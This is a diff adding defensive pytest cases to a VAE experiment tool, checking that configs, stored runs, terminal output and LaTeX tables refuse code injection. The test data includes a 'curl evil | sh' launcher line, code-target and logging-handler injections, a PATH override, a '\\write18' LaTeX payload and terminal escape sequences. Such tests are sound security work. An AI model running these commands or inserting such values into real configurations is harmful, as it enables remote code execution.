@@ -16,18 +16,23 @@ from conftest import CHECKOUT
 from omegaconf import OmegaConf
 from test_wrong_inputs import experiment, train  # noqa: F401
 
-from vae_lab.config.checks.launching import check_hydra
+from vae_lab.config.checks.launching import check_hydra, check_shell
 from vae_lab.config.checks.targets import SEARCHES, check_allowed, why_refused
 from vae_lab.config.compose import compose, compose_unchecked, from_yaml, to_yaml
 from vae_lab.config.credentials import has_password, kept_apart, storage_address, with_password, without_password
 from vae_lab.config.options import option_names, read_option
 from vae_lab.config.parts import make
 from vae_lab.config.settings import settings_of
+from vae_lab.console.terminal import show_lines
 from vae_lab.errors import UsageError
 from vae_lab.report.table import Row, Table, csv_table, latex_text, markdown_table
-from vae_lab.tracking.artifacts import artifact
+from vae_lab.run.loaded import load_run
+from vae_lab.run.reevaluate import evaluate_run
+from vae_lab.search.storage import make_part
+from vae_lab.tracking.artifacts import CONFIG, artifact
 from vae_lab.tracking.records import RunRecord
 from vae_lab.tracking.store import Store, open_store
+from vae_lab.tracking.tracked_run import TrackedRun
 
 # ruff: noqa: F811
 REFUSED = (
@@ -158,6 +163,7 @@ FILES = {
     "within the launcher": f"hydra: {{mode: MULTIRUN, launcher: {{x: {CALL}}}}}",
     "sweeper": f"hydra: {{mode: MULTIRUN, sweeper: {CALL}}}",
     "sampler": f"defaults: [override /hydra/sweeper: optuna]\nhydra: {{mode: MULTIRUN, sweeper: {{sampler: {CALL}}}}}",
+    "environment of jobs": "hydra: {job: {env_set: {PATH: /tmp}}}",
     "log of Hydra": "hydra: {hydra_logging: {version: 1, handlers: {x: {class: stranger.run}}, root: {handlers: [x]}}}",
     "log of a job": "hydra: {job_logging: {version: 1, formatters: {x: {(): stranger.run}}}}",
     "stream of a log": "hydra: {job_logging: {handlers: {console: {stream: 'ext://stranger.run'}}}}",
@@ -194,6 +200,15 @@ def test_the_command_line_runs_no_code(stranger, train, tmp_path):
     assert not stranger.exists()
 
 
+def test_lines_for_a_shell_are_the_user_s_own():
+    node = {"runtime": {"choices": {"hydra/launcher": "slurm"}}, "job": {"env_set": {}}}
+    setup = OmegaConf.to_container(read_option("hydra/launcher", "slurm"))["setup"]
+    check_shell({**node, "launcher": {"setup": setup, "python": None}}, ())
+    with pytest.raises(UsageError, match="command line"):
+        check_shell({**node, "launcher": {"setup": [*setup, "curl evil | sh"]}}, ())
+    check_shell({**node, "launcher": {"setup": ["module load cuda"]}}, ("hydra.launcher.setup=[module load cuda]",))
+
+
 def test_options_of_conf_hydra_are_let_pass():
     for group in ("launcher=basic", "launcher=workers", "sweeper=optuna", "sweeper=study", "sweeper=basic"):
         cfg = compose_unchecked(f"hydra/{group}", with_hydra=True)
@@ -222,6 +237,21 @@ def test_a_stored_configuration_runs_and_looks_up_nothing(change, key, stranger,
     if "_target_" in str(change):
         with pytest.raises(UsageError):
             settings_of(OmegaConf.create(text))
+    assert not stranger.exists()
+
+
+def test_a_run_that_somebody_else_made_is_evaluated_without_what_it_names(stranger, tmp_path):
+    store = open_store(f"sqlite:///{tmp_path}/mlflow.db", "vae_lab", str(tmp_path / "artifacts"))
+    stored = OmegaConf.create(to_yaml(compose_unchecked("seed=0")))
+    text = OmegaConf.to_yaml(OmegaConf.merge(stored, {"encoder": {"activation": {"_target_": "stranger.run"}}}))
+    with TrackedRun(store, "theirs", {"vae_lab.kind": "run"}) as run:
+        run.text(text, CONFIG)
+    with pytest.raises(UsageError, match=r"stranger.run is no class of vae_lab's parts"):
+        evaluate_run(store, run.run_id, ["evaluation.seed=1"])
+    with pytest.raises(UsageError, match=r"stranger.run is no class"):
+        load_run(run.run_id, tracking_uri=store.uri)
+    with pytest.raises(UsageError, match=r"stranger.run is no class"):
+        make_part("pruner", {"_target_": "stranger.run"})  # which a search's database holds
     assert not stranger.exists()
 
 
@@ -399,6 +429,23 @@ def test_latex_sets_names_as_text():
     table = Table(("test/elbo",), (Row(r"\write18{x}", 1, 1, {}),)).latex()
     assert r"\write" not in table
     assert "write18" in table
+
+
+def test_a_terminal_shows_names_as_text(capsys):
+    show_lines("title [/x]", ["arm"], [["[/bold]"], ["[link=http://x]y[/link]"], ["\x1b[2Jz"], ["\x9b2Jz"]])
+    printed = capsys.readouterr().out
+    assert "[/bold]" in printed
+    assert "[link=http://x]y[/link]" in printed
+    assert not set("\x1b\x9b") & set(printed)
+
+
+def test_workers_know_the_password_by_their_environment(monkeypatch):
+    joblib = pytest.importorskip("joblib")
+    monkeypatch.setenv("MLFLOW_TRACKING_PASSWORD", "hunter2")
+    with joblib.parallel_config("loky", n_jobs=2):
+        found = joblib.Parallel()(joblib.delayed(os.getenv)("MLFLOW_TRACKING_PASSWORD") for _ in range(2))
+    joblib.externals.loky.get_reusable_executor().shutdown(wait=True)
+    assert found == ["hunter2", "hunter2"]
 
 
 def test_drawings_hold_names_as_text():
